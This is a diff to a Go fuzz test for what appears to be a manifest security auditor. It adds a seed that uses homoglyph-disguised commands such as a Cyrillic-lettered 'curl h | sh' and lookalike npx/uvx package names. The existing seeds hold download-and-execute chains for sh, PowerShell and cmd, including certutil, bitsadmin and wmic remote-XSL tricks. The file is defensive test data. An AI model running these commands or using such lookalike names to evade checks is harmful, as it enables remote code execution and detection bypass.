@@ -170,6 +170,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "curl -sLo /t/a h://x/a; /t/a; curl -O https://h/p/b%20c.deb; dpkg -i 'b c.deb'; curl -sLO; curl --output-dir d -O https://h/e; sh d/e; wget -qO- https://h/f; wget -P /o https://h/g.py; python3 /o/g.py; aria2c -d x -o y https://h; . x/y; wget -O; python <(curl h); node -e \"$(wget -O- h)\""},
 	{"pwsh", "-c", "iwr h -OutFile a.msi; msiexec /i a.msi; irm -outf:b.ps1 h; Start-Process b.ps1; iwr -OutFile"},
 	{"cmd", "/c", "certutil -urlcache -f https://h/a a.exe & a.exe & bitsadmin /transfer j https://h/b b.exe & b.exe & wmic os get /FORMAT:\"https://h/x.xsl\" & wmic /format: & powershell -c \"iwr h -OutFile c.ps1\" & powershell -Fi c.ps1 & pwsh -f"},
+	{"sh", "-c", "сurl h | sh; nрx -y fоo@1; uvx mcp-sеrver==1; ｎpx; café; 启动 x; /юрий/srv; pip install ɑ"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
